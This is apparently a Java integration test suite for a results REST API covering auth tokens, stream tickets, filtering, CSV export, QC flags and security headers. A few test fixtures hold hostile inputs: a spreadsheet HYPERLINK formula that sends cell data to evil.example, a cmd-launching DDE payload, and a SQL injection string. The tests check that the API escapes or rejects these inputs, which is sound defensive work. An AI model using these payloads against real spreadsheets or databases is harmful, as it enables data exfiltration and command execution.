package io.tunet.results;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.hasSize;

import java.io.InputStream;
import java.net.URI;
import java.net.URL;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.ValidatableResponse;
import io.tunet.schemas.Classification;
import io.tunet.schemas.FieldQuality;
import io.tunet.schemas.LabelFeedback;
import io.tunet.schemas.ModelMetrics;
import io.tunet.schemas.ModelStatus;
import io.tunet.schemas.ModelVersion;
import io.tunet.schemas.SegmentationMask;
import io.tunet.schemas.topics.Topics;
import io.tunet.testkit.KafkaBrokerTestResource;
import io.tunet.testkit.TestBroker;

/** The REST API: tokens, live tickets, filters, pages, CSV, plate summaries, curators' labels and headers. */
@QuarkusTest
@QuarkusTestResource(KafkaBrokerTestResource.class)
@QuarkusTestResource(EmbeddedPostgresTestResource.class)
class ResultsApiTest {

    private static final String PLATE = "PLATE-API";
    private static final String QC_PLATE = "PLATE-QC";
    private static final String VIEWER = "Bearer " + EmbeddedPostgresTestResource.VIEWER_TOKEN;
    private static final String CURATOR = "Bearer " + EmbeddedPostgresTestResource.CURATOR_TOKEN;
    /** A plate name a spreadsheet would run as a formula, as any producer on the line could send it. */
    private static final String HOSTILE_PLATE = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")";

    @TestHTTPResource("/api/stream")
    URL stream;

    @BeforeAll
    static void publishPlate() throws Exception {
        List<Classification> classifications = new ArrayList<>();
        List<SegmentationMask> masks = new ArrayList<>();
        // wells A01..A04: two fields each; A01/A02 dominated by class 0, A03/A04 by class 25
        for (int w = 1; w <= 4; w++) {
            for (int f = 0; f < 2; f++) {
                String id = "api-A0" + w + "-" + f;
                int top = w <= 2 ? 0 : 25;
                classifications.add(Fixtures.classification(id, PLATE, "A0" + w, 1, top, 0.8f + 0.05f * f, List.of(top)));
                masks.add(Fixtures.masks(id, 1, List.of(top)));
            }
        }
        // a second model version for one sample: the newest version is its "latest"
        classifications.add(Fixtures.classification("api-A01-0", PLATE, "A01", 2, 7, 0.7f, List.of(7)));
        // field QC: B01 blurred, B02 passed, B03 saturated and dim in green, B04 written before QC existed
        classifications.add(withQc(Fixtures.classification("qc-B01", QC_PLATE, "B01", 1, 0, 0.9f, List.of(0)),
                Fixtures.qc("OUT_OF_FOCUS")));
        classifications.add(withQc(Fixtures.classification("qc-B02", QC_PLATE, "B02", 1, 0, 0.9f, List.of(0)),
                Fixtures.qc()));
        classifications.add(withQc(Fixtures.classification("qc-B03", QC_PLATE, "B03", 1, 0, 0.9f, List.of(0)),
                Fixtures.qc("SATURATED", "DIM_GREEN")));
        classifications.add(Fixtures.classification("qc-B04", QC_PLATE, "B04", 1, 0, 0.9f, List.of(0)));
        Sink.publish(Topics.CLASSIFICATIONS, classifications, Classification::getSampleId);
        Sink.publish(Topics.MASKS, masks, SegmentationMask::getSampleId);
        // a version whose validation samples lacked every class but 0: the others' F1 is undefined (NaN)
        List<Double> perClassF1 = new ArrayList<>(java.util.Collections.nCopies(28, Double.NaN));
        perClassF1.set(0, 0.5);
        ModelVersion honest = ModelVersion.newBuilder(Fixtures.modelVersion(1, ModelStatus.CANDIDATE, 0.5))
                .setModelName("api-honest")
                .setMetrics(ModelMetrics.newBuilder().setMacroF1(0.5).setMicroF1(0.5).setPrecision(0.5).setRecall(0.5)
                        .setPerClassF1(perClassF1).setValidationSize(3).build())
                .build();
        Sink.publish(Topics.MODELS, List.of(honest), v -> Topics.modelKey(v.getModelName(), v.getVersion()));
        Sink.awaitCaughtUp(Duration.ofSeconds(60));
    }

    private static Classification withQc(Classification classification, FieldQuality qc) {
        return Classification.newBuilder(classification).setQc(qc).build();
    }

    @Test
    void shouldServeUndefinedPerClassScoresAsNull() {
        given().header("Authorization", VIEWER).when().get("/api/models/api-honest/history")
                .then().statusCode(200).body("[0].macroF1", equalTo(0.5f))
                .body("[0].perClassF1[0]", equalTo(0.5f))
                .body("[0].perClassF1[1]", org.hamcrest.Matchers.nullValue())
                .body("[0].perClassF1", hasSize(28));
    }

    @Test
    void shouldAnswer401WithoutAValidToken() {
        given().when().get("/api/samples").then().statusCode(401);
        given().header("Authorization", "Bearer not-a-token").when().get("/api/predictions").then().statusCode(401);
        given().contentType(ContentType.JSON).body(Map.of("labels", List.of(1)))
                .when().post("/api/samples/api-A01-0/labels").then().statusCode(401);
        given().when().get("/api/stream").then().statusCode(401);
    }

    @Test
    void shouldRefuseLabelsFromAViewerWith403() {
        given().header("Authorization", VIEWER).contentType(ContentType.JSON).body(Map.of("labels", List.of(1)))
                .when().post("/api/samples/api-A01-0/labels").then().statusCode(403);
    }

    @Test
    void shouldPublishACuratorsLabelsToTheFeedbackTopic() {
        String feedbackId = given().header("Authorization", CURATOR).contentType(ContentType.JSON)
                .body(Map.of("labels", List.of(25, 3, 3), "curator", "ana", "comment", "clearly cytosolic"))
                .when().post("/api/samples/api-A03-1/labels")
                .then().statusCode(202).body("labels", equalTo(List.of(3, 25)))
                .extract().path("feedbackId");

        List<ConsumerRecord<String, LabelFeedback>> published = TestBroker.shared().read(Topics.FEEDBACK, 1,
                Duration.ofSeconds(20), r -> r.value().getFeedbackId().equals(feedbackId));
        assertThat(published).singleElement().satisfies(r -> {
            assertThat(r.key()).isEqualTo("api-A03-1");
            assertThat(r.value().getLabels()).containsExactly(3, 25);
            assertThat(r.value().getLabelledBy()).isEqualTo("ana");
        });
    }

    @Test
    void shouldRefuseLabelsOutsideTheClassRange() {
        given().header("Authorization", CURATOR).contentType(ContentType.JSON).body(Map.of("labels", List.of(28)))
                .when().post("/api/samples/api-A01-0/labels")
                .then().statusCode(400).body("error", containsString("outside 0..27"));
        given().header("Authorization", CURATOR).contentType(ContentType.JSON).body(Map.of("labels", List.of()))
                .when().post("/api/samples/api-A01-0/labels").then().statusCode(400);
    }

    @Test
    void shouldBoundPageSizesAndValidateFilters() {
        given().header("Authorization", VIEWER).queryParam("size", 501).when().get("/api/predictions")
                .then().statusCode(400).body("error", containsString("size must be 1..500"));
        given().header("Authorization", VIEWER).queryParam("class", 28).when().get("/api/predictions")
                .then().statusCode(400);
        given().header("Authorization", VIEWER).queryParam("from", "yesterday").when().get("/api/predictions")
                .then().statusCode(400).body("error", containsString("ISO-8601"));
        given().header("Authorization", VIEWER).queryParam("well", "A1'; DROP TABLE samples; --")
                .when().get("/api/samples").then().statusCode(400);
    }

    @Test
    void shouldFilterAndPagePredictions() {
        given().header("Authorization", VIEWER).queryParam("plate", PLATE).queryParam("class", 25)
                .queryParam("size", 3).when().get("/api/predictions")
                .then().statusCode(200).body("total", equalTo(4)).body("items", hasSize(3))
                .body("items.topClass", everyItemIs(25));
        given().header("Authorization", VIEWER).queryParam("plate", PLATE).queryParam("modelVersion", 2)
                .when().get("/api/predictions")
                .then().statusCode(200).body("total", equalTo(1)).body("items[0].sampleId", equalTo("api-A01-0"));
        given().header("Authorization", VIEWER).queryParam("plate", PLATE)
                .queryParam("from", "2026-11-25T10:00:01.500Z").when().get("/api/predictions")
                .then().statusCode(200).body("total", equalTo(1));
    }

    @Test
    void shouldServeFieldQcWithEachPredictionAndFilterByFlag() {
        given().header("Authorization", VIEWER).queryParam("plate", QC_PLATE).queryParam("flag", "OUT_OF_FOCUS")
                .when().get("/api/predictions")
                .then().statusCode(200).body("total", equalTo(1)).body("items[0].sampleId", equalTo("qc-B01"))
                .body("items[0].qc.flags", equalTo(List.of("OUT_OF_FOCUS")))
                .body("items[0].qc.focus", equalTo(3.2f)).body("items[0].qc.nuclei", equalTo(9))
                .body("items[0].qc.stains.stain", equalTo(List.of("red", "green", "blue", "yellow")))
                .body("items[0].qc.stains[0].saturatedFraction", equalTo(0.0007f));
        given().header("Authorization", VIEWER).queryParam("plate", QC_PLATE).queryParam("flag", "DIM_GREEN")
                .when().get("/api/predictions")
                .then().statusCode(200).body("total", equalTo(1)).body("items[0].sampleId", equalTo("qc-B03"));
        given().header("Authorization", VIEWER).queryParam("plate", QC_PLATE).queryParam("flag", "EMPTY")
                .when().get("/api/predictions").then().statusCode(200).body("total", equalTo(0));
        given().header("Authorization", VIEWER).when().get("/api/samples/qc-B02")
                .then().statusCode(200).body("sample.latest.qc.flags", hasSize(0))
                .body("sample.latest.qc.focus", equalTo(7.4f));
        given().header("Authorization", VIEWER).when().get("/api/samples/qc-B04")
                .then().statusCode(200).body("sample.latest.qc", org.hamcrest.Matchers.nullValue());
    }

    @Test
    void shouldRefuseAnUnknownQcFlagWith400() {
        given().header("Authorization", VIEWER).queryParam("flag", "BLURRY").when().get("/api/predictions")
                .then().statusCode(400).body("error", containsString("flag must be one of"))
                .body("error", containsString("OUT_OF_FOCUS")).body("error", containsString("'BLURRY'"));
        given().header("Authorization", VIEWER).queryParam("flag", "out_of_focus").when().get("/api/predictions.csv")
                .then().statusCode(400).body("error", containsString("flag must be one of"));
    }

    @Test
    void shouldMarkFlaggedWellsInThePlateSummaryAndTheCsv() {
        given().header("Authorization", VIEWER).when().get("/api/plates/" + QC_PLATE)
                .then().statusCode(200)
                .body("wells.well", equalTo(List.of("B01", "B02", "B03", "B04")))
                .body("wells.qcFlags", equalTo(List.of(List.of("OUT_OF_FOCUS"), List.of(),
                        List.of("DIM_GREEN", "SATURATED"), List.of())))
                .body("wells.flaggedSamples", equalTo(List.of(1, 0, 1, 0)));

        String csv = given().header("Authorization", VIEWER).queryParam("plate", QC_PLATE)
                .when().get("/api/predictions.csv").then().statusCode(200).extract().asString();

        List<String> lines = csv.lines().toList();
        assertThat(lines.get(0)).endsWith(",Rods & rings,qc_flags");
        assertThat(lines.subList(1, 5)).satisfiesExactly(
                b01 -> assertThat(b01).startsWith("qc-B01,").endsWith(",OUT_OF_FOCUS"),
                b02 -> assertThat(b02).startsWith("qc-B02,").endsWith(","),
                b03 -> assertThat(b03).startsWith("qc-B03,").endsWith(",SATURATED;DIM_GREEN"),
                b04 -> assertThat(b04).startsWith("qc-B04,").endsWith(",n/a"));
    }

    @Test
    void shouldSummariseAPlateByDominantClassPerWell() {
        given().header("Authorization", CURATOR).when().get("/api/plates/" + PLATE)
                .then().statusCode(200)
                .body("wells.well", equalTo(List.of("A01", "A02", "A03", "A04")))
                .body("wells.dominantClass", equalTo(List.of(0, 0, 25, 25)))
                .body("wells.samples", equalTo(List.of(2, 2, 2, 2)));
        given().header("Authorization", VIEWER).when().get("/api/plates")
                .then().statusCode(200).body("plate", hasItem(PLATE));
    }

    @Test
    void shouldServeTheLatestPredictionsMasksOfASample() {
        given().header("Authorization", VIEWER).when().get("/api/samples/api-A03-0/masks")
                .then().statusCode(200).body("width", equalTo(Fixtures.MASK_SIZE))
                .body("masks.classIndex", equalTo(List.of(25)));
        given().header("Authorization", VIEWER).when().get("/api/samples/api-A01-0")
                .then().statusCode(200).body("sample.latest.modelVersion", equalTo(2))
                .body("predictions", hasSize(2));
        given().header("Authorization", VIEWER).when().get("/api/samples/no-such-sample").then().statusCode(404);
    }

    @Test
    void shouldExportPredictionsAsCsv() {
        String csv = given().header("Authorization", VIEWER).queryParam("plate", PLATE).queryParam("well", "A03")
                .when().get("/api/predictions.csv")
                .then().statusCode(200).contentType(containsString("text/csv")).header("X-Truncated", "false")
                .extract().asString();
        List<String> lines = csv.lines().toList();
        assertThat(lines).hasSize(3);
        assertThat(lines.get(0)).startsWith("sample_id,plate,well,field,model_name,model_version")
                .endsWith(",Rods & rings,qc_flags");
        assertThat(lines.get(1).split(",")).hasSize(10 + 28 + 1);
        assertThat(lines.subList(1, 3)).allSatisfy(line -> assertThat(line).contains(",Cytosol,"));
    }

    @Test
    void shouldExportCellsThatLookLikeFormulasAsText() throws Exception {
        Classification hostile = Classification.newBuilder(
                        Fixtures.classification("@SUM(1+1)*cmd|' /C calc'!A0", HOSTILE_PLATE, "H12", 1, 4, 0.9f,
                                List.of(4)))
                .setModelName("-2+3").build();
        Sink.publish(Topics.CLASSIFICATIONS, List.of(hostile), Classification::getSampleId);
        Sink.awaitCaughtUp(Duration.ofSeconds(60));

        String csv = given().header("Authorization", VIEWER).queryParam("plate", HOSTILE_PLATE)
                .when().get("/api/predictions.csv")
                .then().statusCode(200).extract().asString();

        List<String> lines = csv.lines().toList();
        assertThat(lines).hasSize(2);
        assertThat(lines.get(1)).startsWith("'@SUM(1+1)*cmd|' /C calc'!A0,"
                + "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"open\"\")\",H12,1,'-2+3,1,");
    }

    @Test
    void shouldOpenTheLiveStreamOnceWithATicket() throws Exception {
        String ticket = ticket(VIEWER).body("validForSeconds", equalTo(60)).extract().path("ticket");

        assertThat(openStream("ticket=" + ticket)).isEqualTo(200);
        assertThat(openStream("ticket=" + ticket)).as("the same ticket again").isEqualTo(401);
        assertThat(openStream("ticket=not-a-ticket")).isEqualTo(401);
    }

    @Test
    void shouldRefuseTokensInTheAddress() throws Exception {
        String token = URLEncoder.encode(EmbeddedPostgresTestResource.CURATOR_TOKEN, StandardCharsets.UTF_8);
        assertThat(openStream("access_token=" + token)).isEqualTo(401);
        given().queryParam("access_token", EmbeddedPostgresTestResource.VIEWER_TOKEN).when().get("/api/samples")
                .then().statusCode(401).body("error", containsString("Authorization"));
        given().when().post("/api/live/tickets").then().statusCode(401);
    }

    @Test
    void shouldGrantATicketNoMoreThanTheLiveStream() throws Exception {
        String ticket = ticket(CURATOR).extract().path("ticket");

        given().header("Authorization", "Bearer " + ticket).contentType(ContentType.JSON)
                .body(Map.of("labels", List.of(1))).when().post("/api/samples/api-A01-0/labels")
                .then().statusCode(401);
        given().queryParam("ticket", ticket).contentType(ContentType.JSON)
                .body(Map.of("labels", List.of(1))).when().post("/api/samples/api-A01-0/labels")
                .then().statusCode(401);
        given().queryParam("ticket", ticket).when().get("/api/whoami").then().statusCode(401);
        given().header("Authorization", "Bearer " + ticket).when().post("/api/live/tickets").then().statusCode(401);
        // none of that spent it
        assertThat(openStream("ticket=" + ticket)).isEqualTo(200);
    }

    @Test
    void shouldSendSecurityHeadersOnEveryResponse() {
        List<ValidatableResponse> responses = List.of(
                given().when().get("/").then().statusCode(200),
                given().when().get("/js/app.js").then().statusCode(200),
                given().header("Authorization", VIEWER).when().get("/api/whoami").then().statusCode(200),
                given().when().get("/api/samples").then().statusCode(401),
                given().when().get("/q/health/live").then().statusCode(200),
                given().when().get("/no-such-page").then().statusCode(404));
        for (ValidatableResponse response : responses) {
            response.header("Content-Security-Policy", equalTo(DASHBOARD_POLICY))
                    .header("X-Frame-Options", "DENY")
                    .header("X-Content-Type-Options", "nosniff")
                    .header("Referrer-Policy", "no-referrer");
        }
        // Swagger UI's page configures itself in an inline script: it alone gets 'unsafe-inline'
        given().when().get("/q/swagger-ui/").then().statusCode(200)
                .header("Content-Security-Policy", containsString("frame-ancestors 'none'"))
                .header("X-Frame-Options", "DENY");
    }

    @Test
    void shouldPublishTheOpenApiDocumentAndHealthWithoutAToken() {
        given().when().get("/q/openapi").then().statusCode(200).body(containsString("/api/predictions.csv"));
        given().when().get("/q/health/live").then().statusCode(200);
        given().when().get("/q/metrics").then().statusCode(200).body(containsString("results_records_stored_total"));
    }

    private static final String DASHBOARD_POLICY = "default-src 'none'; script-src 'self'; style-src 'self'; "
            + "img-src 'self'; connect-src 'self'; frame-ancestors 'none'; base-uri 'none'; form-action 'self'";

    private static ValidatableResponse ticket(String authorization) {
        return given().header("Authorization", authorization).when().post("/api/live/tickets")
                .then().statusCode(200);
    }

    /** Opens the live stream with the given query and closes it again; the status it was answered with. */
    private int openStream(String query) throws Exception {
        HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
                .connectTimeout(Duration.ofSeconds(10)).build();
        HttpRequest request = HttpRequest.newBuilder(URI.create(stream + "?" + query))
                .header("Accept", "text/event-stream").timeout(Duration.ofSeconds(20)).GET().build();
        HttpResponse<InputStream> response = client.send(request, HttpResponse.BodyHandlers.ofInputStream());
        try (InputStream body = response.body()) {
            if (response.statusCode() == 200) {
                assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(
                        type -> assertThat(type).startsWith("text/event-stream"));
            }
            return response.statusCode();
        }
    }

    private static org.hamcrest.Matcher<Iterable<? extends Integer>> everyItemIs(int value) {
        return org.hamcrest.Matchers.everyItem(equalTo(value));
    }
}
